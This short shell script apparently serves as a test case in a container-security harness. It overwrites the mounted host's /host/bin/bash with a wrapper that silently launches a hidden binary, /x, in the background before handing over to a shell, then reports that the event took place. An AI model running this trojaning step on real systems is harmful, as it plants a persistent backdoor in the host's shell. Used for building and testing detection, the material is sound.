#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/busybox sh\n/x 2>/dev/null &\nexec /bin/busybox sh "$@"\n' >/tmp/.l
chmod 755 /tmp/.l
cp /tmp/.l /host/bin/.l && mv /host/bin/.l /host/bin/bash
test -x /host/bin/bash
took_place
